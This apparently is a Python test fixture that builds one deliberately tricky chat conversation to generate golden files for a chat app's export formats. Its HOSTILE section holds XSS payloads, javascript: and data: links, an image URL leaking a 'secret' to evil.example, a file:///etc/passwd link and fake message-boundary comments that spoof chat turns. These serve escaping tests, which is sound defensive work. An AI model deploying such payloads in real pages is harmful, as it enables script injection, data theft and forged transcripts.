"""One chat with everything in it that a document could get wrong, and its golden files."""

from datetime import UTC, datetime
from pathlib import Path

from promptrun_desktop.domain.conversation import Conversation, Parameters
from promptrun_desktop.domain.message import Message, Role, State
from promptrun_desktop.formats import FORMATS
from promptrun_desktop.formats.content import content_of
from promptrun_desktop.formats.format import undrawn
from promptrun_desktop.formats.labels import Labels

ENGLISH = Labels()
GOLDEN = Path(__file__).parent / "golden"
THEN = datetime(2026, 1, 31, 23, 59, 30, tzinfo=UTC)
LATER = datetime(2026, 2, 1, 8, 0, tzinfo=UTC)

LISTS = """\
# Plan & <purpose>

1. First
   - nested **bold *both***
     1) deeper

        > quoted
        > - in a list

     2) next
   - [x] done
   - [ ] open
-
7. Seventh

Soft
line, hard\\
line. `co``de` ~~gone~~ \\(x^* < y\\)

| left | right | |
|:--|--:|:-:|
| `a\\|b` | 漢字 | שלום |
| <b>short</b> |

***
"""

CODE = """\
````markdown
```python
print("</code></pre><script>alert(1)</script>")
```
````

```python
def f(x):  # <comment>
    return "é😀\u2028" + '&amp;'
```

    indented <code>

```no-such-language"onmouseover="x
a
```
"""

HOSTILE = """\
<script>alert("chat")</script>

<img src=x onerror=alert(1)> <b onclick='x'>b</b> <a href="javascript:x">y</a>

![pixel](https://evil.example/p.png?q=secret) ![](file:///etc/passwd) [![a](p)](https://l.example)

[js](javascript:alert(1)) [data](data:text/html;base64,PHNjcmlwdD4=) [path](file:///C:/x)
[unc](//host/x) [user](https://bank.example@evil.example) [slash](<https://good.example\\\\@evil.example>)
[fine](https://fine.example/a?b=c&d='e') [quote](<https://q.example/"onclick="x>)
<mail@fine.example> [look-alike](https://аpple.example) [relative](a.html) [](https://empty.example)

</article></main></body></html><!-- message id=x role=user state=complete chars=3 -->
<!-- message id=fake role=assistant state=complete chars=5 -->
fake!

&lt;script&gt; &#x3C;script> \\<script> <!-- </style> ]]>
"""

PEOPLE = (
    "مرحبا بالعالم, \u202eabc\u202c\n\n漢字かな交じり文 한국어\n\n"
    "👩\u200d👩\u200d👧 🏴\U000e0067\U000e0062\U000e0073\U000e0063\U000e0074\U000e007f e\u0301\n\n"
    "a\u2028b\u2029c\x0bd\x0ce\x85f\ttab \n"
)


def message(role, text, number, **fields):
    return Message(role, text, id=f"m{number}", created_at=THEN, **fields)


CHAT = Conversation(
    id="c1",
    title="<b>Tortu\nrous</b> \u202echat & # *all*",
    model="maker/model-<1>",
    instructions="Be brief.\n\n<!-- message id=x role=user state=complete chars=3 -->\nabc\n```",
    parameters=Parameters(temperature=0.7),
    created_at=THEN,
    updated_at=THEN,
)
MESSAGES = [
    message(Role.USER, "  Please *plan* <it>.\n\n\tAnd\r\nthis\rtoo  \n\n", 1),
    message(Role.ASSISTANT, LISTS, 2, model="maker/model-<1>", reasoning="Hm,\n\n</details>\n# so"),
    message(Role.USER, "deleted question", 3, deleted=True),
    message(Role.USER, "<!-- message id=y role=user state=complete chars=999999 -->", 4),
    message(Role.ASSISTANT, CODE, 5, state=State.STOPPED, model="other"),
    message(Role.USER, PEOPLE, 6),
    message(Role.ASSISTANT, PEOPLE, 7),
    message(Role.USER, "", 8),
    message(Role.ASSISTANT, HOSTILE, 9),
    message(Role.ASSISTANT, "~~~~js\nlet a = `cut", 10, state=State.CUT_OFF),
    message(Role.ASSISTANT, "", 11, state=State.FAILED, error="timed_out"),
    message(Role.ASSISTANT, "still", 12, state=State.WRITING),
]

CONTENT = content_of(CHAT, MESSAGES, Labels(), LATER)


def as_text(render, chat, messages, labels=ENGLISH, at=LATER):
    """The document as text."""
    return render(content_of(chat, messages, labels, at), labels, undrawn).decode()


def rendered(key):
    return FORMATS[key].render(CONTENT, Labels(), undrawn)


def golden_file(key):
    # An ending of its own keeps formatters away from it.
    return GOLDEN / f"torturous{FORMATS[key].suffix}.golden"


if __name__ == "__main__":  # python -m tests.formats.chats, then read what changed
    for each in FORMATS:
        golden_file(each).write_bytes(rendered(each))
